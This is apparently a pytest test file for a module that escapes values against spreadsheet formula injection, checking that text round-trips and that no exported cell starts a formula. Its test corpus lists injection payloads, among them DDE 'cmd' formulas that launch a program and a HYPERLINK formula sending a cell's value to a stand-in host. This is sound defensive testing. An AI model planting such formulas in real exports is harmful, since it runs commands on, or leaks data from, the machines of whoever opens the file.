"""What we write runs in no spreadsheet, and comes back as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.editing.spreadsheet.inert import as_meant, for_text, for_workbook

TYPED = st.text(alphabet="=+-@'\"; ,|\n\tab0＝＋－＠", max_size=20)
CORPUS = [
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    '"=1+1',
    "＝1+1",
    "'=1+1",
    "ok\n=1+1",
    "ok;=1+1",
    "ok, @SUM(1)",
    "ok | =1+1",
    "01632 960001 | +44 1632 960002",
]


@given(TYPED)
def test_text_comes_back(text: str) -> None:
    assert as_meant(for_text(text)) == text


@given(TYPED)
def test_cells_of_workbooks_come_back(text: str) -> None:
    assert as_meant(for_workbook(text)) == text


@pytest.mark.parametrize("text", CORPUS)
@pytest.mark.parametrize("sign", [",", ";", "\t", "|"])
def test_no_cell_begins_a_formula_whatever_sign_a_program_cuts_at(text: str, sign: str) -> None:
    written = io.StringIO()
    csv.writer(written, quoting=csv.QUOTE_ALL).writerows([["Name", for_text(text), for_text(text)], [for_text(text)] * 3])
    cells = [cell for row in csv.reader(io.StringIO(written.getvalue()), delimiter=sign) for cell in row]
    cells += [part for line in written.getvalue().split("\n") for part in line.split(sign)]
    for cell in cells:
        assert not cell.strip(' "').startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠")), cell
